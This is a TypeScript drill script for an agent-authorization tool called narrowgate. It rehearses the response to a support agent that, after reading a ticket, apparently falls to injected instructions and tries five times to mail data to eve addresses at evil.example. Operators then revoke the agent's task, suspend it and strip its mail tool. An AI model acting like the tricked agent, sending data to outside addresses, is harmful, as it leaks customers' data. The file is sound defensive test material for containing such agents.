import {
  listTickets,
  NIGHTLY,
  openTask,
  readTicket,
  requestTask,
  sendMail,
  session,
  SUPPORT,
  UNTIL_LEASES_EXPIRE,
} from "../dev/drill/agents.ts"
import { drill, expected, valueOf } from "../dev/drill/drill.ts"
import { editPolicies, entryOf, valuesAt } from "../dev/drill/policies.ts"
import { startStackPlace, type StackPlace } from "../dev/drill/stack-place.ts"

async function start(directory: string): Promise<StackPlace> {
  return startStackPlace(directory, async (_policies, variables) => void variables.set("AGENT", SUPPORT))
}

async function openForAlice(place: StackPlace, purpose: string): ReturnType<typeof openTask> {
  return openTask(place, { agent: SUPPORT, subject: await session(place, "alice"), purpose })
}

export const rogueAgent = drill<StackPlace>({
  name: "rogue-agent",
  practises:
    "Ends the task of an agent that was tricked into sending data out, suspends the agent, and takes the tool away.",
  runbook: "a-rogue-agent",
  start,
  steps: [
    {
      title: "An agent reads a ticket, and then tries to send mail outside the company, again and again.",
      async run(place) {
        const { token, task } = await openForAlice(place, "answer-customer")
        place.variables.set("TASK", task)
        place.variables.set("TOKEN", token)
        expected(await readTicket(place, token), "200 allowed")
        for (let index = 0; index < 5; index++)
          expected(await sendMail(place, token, `eve-${index}@evil.example`), "403 policy_denied")
        return "five times 403 policy_denied"
      },
    },
    {
      command: 'npx narrowgate decisions tail --agent "$AGENT" --decision deny --since 1h',
      shows: /(?:deny +policy_denied +mail\.send:write[^]*){5}/,
      keep: { DECISION: /(dec_[0-9A-Z]+)\s*$/ },
    },
    { command: 'npx narrowgate revoke --task "$TASK" --reason "sends to strangers"', shows: /tsk_/ },
    {
      title: "The token of the task is dead, but the agent opens another task.",
      async run(place) {
        expected(await readTicket(place, valueOf(place, "TOKEN")), "401 invalid_token")
        const { token } = await openForAlice(place, "answer-customer")
        place.variables.set("TOKEN", token)
        return `401 invalid_token; in the new task ${expected(await readTicket(place, token), "200 allowed")}`
      },
    },
    {
      command: 'npx narrowgate revoke --agent "$AGENT" --reason "sends to strangers"',
      shows: /in force {2}now/,
      keep: { SUSPENSION: /^(swi_\S+)/m },
    },
    {
      title: "Now it can do nothing, and other agents work.",
      async run(place) {
        const call = expected(await readTicket(place, valueOf(place, "TOKEN")), "401 invalid_token")
        const wanted = { agent: SUPPORT, subject: await session(place, "alice") }
        const request = expected((await requestTask(place, wanted)).answer, "400 unauthorized_client")
        const other = await openTask(place, { agent: NIGHTLY })
        return `${call}; ${request}; nightly: ${expected(await listTickets(place, other.token), "200 allowed")}`
      },
    },
    {
      command: 'npx narrowgate explain "$DECISION"',
      shows: /rules +mail-within-the-company[^]*arguments.to = "eve-4@evil\.example"/,
    },
    {
      title: "The owner takes the tool out of the agent's ceiling.",
      async run({ policies }) {
        await editPolicies(policies, "agents.yaml", (document) => {
          const ceiling = [...entryOf(document, "agents", "id", SUPPORT), "ceiling", "tools"]
          const tools = valuesAt(document, ceiling).filter((tool) => !tool.startsWith("mail."))
          document.setIn(ceiling, tools)
        })
        return "the ceiling has no mail.send"
      },
    },
    {
      command: 'npx narrowgate diff "$POLICIES" --from-worker --since 1d',
      shows: /policy_denied → insufficient_scope +5 × mail\.send/,
    },
    {
      command: 'npx narrowgate publish "$POLICIES" --key "$KEY" --untested --why "support sends no mail"',
      shows: /bundle 2/,
    },
    { command: 'npx narrowgate revoke lift "$SUSPENSION"', shows: /resumed/ },
    UNTIL_LEASES_EXPIRE,
    {
      title: "The agent reads tickets again, and can send no mail.",
      async run(place) {
        const { token } = await openForAlice(place, "answer-customer")
        const read = expected(await readTicket(place, token), "200 allowed")
        return `${read}; mail: ${expected(await sendMail(place, token, "bob@example.org"), "403 insufficient_scope")}`
      },
    },
  ],
})
